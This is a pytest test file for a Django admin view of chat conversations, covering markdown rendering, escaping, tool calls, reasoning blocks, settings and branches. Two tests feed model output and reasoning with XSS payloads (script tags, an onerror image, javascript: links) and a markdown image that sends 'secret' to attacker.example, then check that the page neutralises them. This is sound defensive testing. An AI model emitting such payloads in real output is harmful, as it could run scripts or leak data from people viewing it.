from __future__ import annotations

import pytest

from chat.models import Message
from tests.admin.factories import add, add_reasoning_answer, make_conversation


@pytest.fixture
def client(client, root):
    client.force_login(root)
    return client


def page(client, conversation, query=""):
    r = client.get(f"/admin/chat/conversation/{conversation.pk}/change/{query}")
    assert r.status_code == 200
    return r.content.decode()


@pytest.mark.django_db
def test_it_renders_answers_as_markdown(client, alice):
    conversation = make_conversation(alice)
    html = page(client, conversation)
    assert "<strong>Warm</strong> clothes." in html


@pytest.mark.django_db
def test_it_shows_what_people_typed_as_text(client, alice):
    conversation = make_conversation(alice)
    add(conversation, "user", "**not bold** <b>nor this</b>")
    html = page(client, conversation)
    assert "**not bold** &lt;b&gt;nor this&lt;/b&gt;" in html


@pytest.mark.django_db
def test_it_shows_each_answers_numbers(client, alice):
    conversation = make_conversation(alice)
    add(
        conversation,
        "assistant",
        "Partial",
        model="anthropic:claude-sonnet-4-5",
        status=Message.Status.FAILED,
        finish_reason="error",
        error="The provider is overloaded.",
        error_detail="HTTP 529 from upstream",
    )
    html = page(client, conversation)
    assert "openai:gpt-4o" in html
    assert "first token after 250 ms" in html
    assert "42.5 tokens/s" in html
    assert "12 tokens in, 30 out" in html
    assert "complete (end)" in html
    assert "failed (error)" in html
    assert "The provider is overloaded." in html
    assert "HTTP 529 from upstream" in html


@pytest.mark.django_db
def test_it_shows_tool_calls_and_results(client, alice):
    conversation = make_conversation(alice)
    call = {"id": "call_7", "name": "weather", "arguments": {"city": "Oslo"}}
    add(conversation, "assistant", "", tool_calls=[call])
    add(conversation, "tool", "-3 °C <script>", tool_call_id="call_7")
    html = page(client, conversation)
    assert "tool call <code>weather</code> (call_7)" in html
    assert "&quot;city&quot;: &quot;Oslo&quot;" in html
    assert "result of call_7" in html
    assert "-3 °C &lt;script&gt;" in html


@pytest.mark.django_db
def test_it_shows_the_versions_of_a_regenerated_answer(client, alice):
    conversation = make_conversation(alice)
    answer = conversation.messages.get(role="assistant")
    add(
        conversation,
        "assistant",
        "An earlier attempt",
        seq=answer.seq,
        active=False,
        reply_to=answer.reply_to,
    )
    html = page(client, conversation)
    assert "1 other version of #2" in html
    assert "An earlier attempt" in html
    assert html.index("Warm") < html.index("An earlier attempt")


@pytest.mark.django_db
def test_it_shows_where_the_window_begins(client, alice):
    conversation = make_conversation(alice)
    add(conversation, "user", "Second question")
    add(conversation, "assistant", "Second answer", context_from_seq=3)
    conversation.summary = "They talked about packing."
    conversation.summary_through_seq = 2
    conversation.save()
    html = page(client, conversation)
    divider = html.index("earlier messages are not sent to the model")
    assert html.index("What should I pack?") < divider < html.index("Second question")
    assert "a summary of messages up to #2 is sent instead" in html
    assert "They talked about packing." in html
    assert "context from #3" in html


@pytest.mark.django_db
def test_it_shows_no_divider_when_everything_was_sent(client, alice):
    conversation = make_conversation(alice)
    add(conversation, "user", "Second question")
    add(conversation, "assistant", "Second answer", context_from_seq=1)
    assert "earlier messages are not sent" not in page(client, conversation)


@pytest.mark.django_db
def test_it_shows_the_newest_messages_of_a_huge_conversation(client, alice, settings):
    from chat.admin import ConversationAdmin

    conversation = make_conversation(alice)
    for n in range(8):
        add(conversation, "user", f"message number {n}")
    ConversationAdmin.transcript_limit, limit = 5, ConversationAdmin.transcript_limit
    try:
        html = page(client, conversation)
        assert "message number 7" in html
        assert "message number 3" in html
        assert "message number 2" not in html
        assert "5 older messages not shown" in html
        assert "message number 2" in page(client, conversation, "?transcript=all")
    finally:
        ConversationAdmin.transcript_limit = limit


@pytest.mark.django_db
def test_it_never_lets_model_output_run_scripts_or_load_images(client, alice):
    conversation = make_conversation(alice)
    add(
        conversation,
        "assistant",
        "<script>alert(1)</script> <img src=x onerror=alert(1)> [click](javascript:alert(1)) "
        "![leak](https://attacker.example/collect?q=secret)",
    )
    html = page(client, conversation)
    body = html[html.index('id="transcript"') :]
    assert "<script>alert" not in body
    assert "<img" not in body
    assert "javascript:" not in body.replace("[click](javascript:alert(1))", "")
    assert '<a href="https://attacker.example/collect?q=secret" rel="noopener noreferrer">' in body


def reasoning_block(html, answer):
    """The part of the page for ``answer``: its entry, up to the next one."""
    start = html.index(f'id="message-{answer.pk}"')
    end = html.find('<div class="chat-entry', start)
    return html[start : end if end != -1 else len(html)]


@pytest.mark.django_db
def test_it_shows_reasoning_collapsed_above_the_answer_with_its_time_and_tokens(client, alice):
    conversation = make_conversation(alice)
    answer = add_reasoning_answer(conversation)
    entry = reasoning_block(page(client, conversation), answer)
    details = entry.index('<details class="chat-reasoning">')
    assert "<details open" not in entry
    assert "<summary>Thought for 12 s · 340 reasoning tokens</summary>" in entry
    # Rendered as the answer's text is: markdown, sanitized.
    assert "Oslo in <em>winter</em> is cold, so:" in entry
    assert "<li>wool</li>" in entry
    assert details < entry.index("Oslo in") < entry.index("Pack <strong>wool</strong>.")
    assert "provider reasoning state stored" in entry
    assert "sig-EuYBCkQYAiJA" not in page(client, conversation)


@pytest.mark.django_db
def test_it_leaves_out_what_was_not_measured(client, alice):
    conversation = make_conversation(alice)
    no_tokens = add_reasoning_answer(conversation, reasoning_tokens=None, reasoning_ms=1500)
    no_time = add_reasoning_answer(conversation, reasoning_ms=None, reasoning_tokens=1)
    neither = add_reasoning_answer(conversation, reasoning_ms=None, reasoning_tokens=None)
    html = page(client, conversation)
    assert "<summary>Thought for 1.5 s</summary>" in reasoning_block(html, no_tokens)
    assert "<summary>1 reasoning token</summary>" in reasoning_block(html, no_time)
    assert "<summary>Reasoning</summary>" in reasoning_block(html, neither)


@pytest.mark.django_db
def test_it_says_when_the_provider_hid_the_reasoning(client, alice):
    conversation = make_conversation(alice)
    partly = add_reasoning_answer(
        conversation, reasoning="What I may show.", reasoning_redacted=True
    )
    wholly = add_reasoning_answer(
        conversation, reasoning="", reasoning_redacted=True, reasoning_ms=83_000
    )
    html = page(client, conversation)
    shown = reasoning_block(html, partly)
    assert (
        "<summary>Thought for 12 s · 340 reasoning tokens · Reasoning hidden by the provider"
        "</summary>" in shown
    )
    assert "What I may show." in shown
    hidden = reasoning_block(html, wholly)
    assert "<details" not in hidden  # nothing to open
    assert (
        "Thought for 1 min 23 s · 340 reasoning tokens · Reasoning hidden by the provider" in hidden
    )


@pytest.mark.django_db
def test_it_shows_no_reasoning_for_answers_that_did_not_reason(client, alice):
    conversation = make_conversation(alice)
    add(conversation, "user", "Thinking about it")  # the word alone is no reasoning
    html = page(client, conversation)
    assert "chat-reasoning" not in html
    assert "provider reasoning state stored" not in html


@pytest.mark.django_db
def test_it_never_lets_reasoning_run_scripts_or_load_images(client, alice):
    conversation = make_conversation(alice)
    answer = add_reasoning_answer(
        conversation,
        reasoning="<script>alert(1)</script> <img src=x onerror=alert(1)> "
        "[click](javascript:alert(1)) ![leak](https://attacker.example/collect?q=secret)",
    )
    entry = reasoning_block(page(client, conversation), answer)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in entry
    assert "<script>alert" not in entry
    assert "<img" not in entry
    assert "javascript:" not in entry.replace("[click](javascript:alert(1))", "")
    assert '<a href="https://attacker.example/collect?q=secret" rel="noopener noreferrer">' in entry


@pytest.mark.django_db
def test_it_shows_the_conversations_reasoning_effort(client, alice):
    conversation = make_conversation(alice)
    conversation.reasoning_effort = "high"
    conversation.save()
    html = page(client, conversation)
    assert "Reasoning effort" in html
    field = html[html.index("field-reasoning_effort") :]
    assert "high" in field[: field.index("</div>\n")]


@pytest.mark.django_db
def test_it_shows_the_settings_an_answer_was_made_with(client, alice):
    conversation = make_conversation(alice)
    question = add(conversation, "user", "Again?")
    add(
        conversation,
        "assistant",
        "Yes.",
        reply_to=question,
        model="anthropic:claude-sonnet-4-5",
        output_tokens=3,
        settings={
            "model": "anthropic:claude-sonnet-4-5",
            "temperature": None,
            "top_p": 0.97,
            "max_output_tokens": 300,
            "reasoning_effort": "low",
            "tools": ["calculator"],
            "system_prompt": "Answer <b>briefly</b>.",
            "notes": ["temperature ignored: claude-sonnet-4-5 with extended thinking needs 1"],
        },
    )
    html = page(client, conversation)
    for part in (
        "temperature default",
        "top_p 0.97",
        "up to 300 output tokens",
        "reasoning low",
        "tools: calculator",
        "temperature ignored: claude-sonnet-4-5 with extended thinking needs 1",
    ):
        assert f">{part}</span>" in html
    # The instructions as sent, collapsed, shown as text.
    assert "<summary>Instructions as sent</summary>" in html
    assert "Answer &lt;b&gt;briefly&lt;/b&gt;." in html
    # An answer recorded before settings were (make_conversation's) shows none of it.
    assert html.count("Instructions as sent") == 1
    assert html.count(" output tokens</span>") == 1


@pytest.mark.django_db
def test_it_shows_the_branches_not_shown_under_the_place_they_start(client, alice):
    from chat.models import Conversation

    conversation = Conversation.objects.create(owner=alice, title="Branched", model="local:m")
    q1 = conversation.add_user_message("Where is Oslo?")
    add(conversation, "assistant", "In Norway.", reply_to=q1)
    q2 = conversation.add_user_message("And Bergen?")
    add(conversation, "assistant", "West of Oslo.", reply_to=q2)
    edited = conversation.add_edit(q2, "And Trondheim?")
    add(conversation, "assistant", "North of Oslo.", reply_to=edited)
    html = page(client, conversation)
    # The branch shown is the transcript; the other one sits, folded, under the place it
    # branches from, and is labelled as not shown.
    assert html.index("And Trondheim?") < html.index("North of Oslo.")
    branch = html[html.index('<details class="chat-branch">') :]
    branch = branch[: branch.index("</details>")]
    assert "Branch not shown: after the version of #3" in branch
    assert "West of Oslo." in branch
    assert "on a branch not shown" in branch
    assert "North of Oslo." not in branch
    assert html.count('class="chat-shown"') == 1
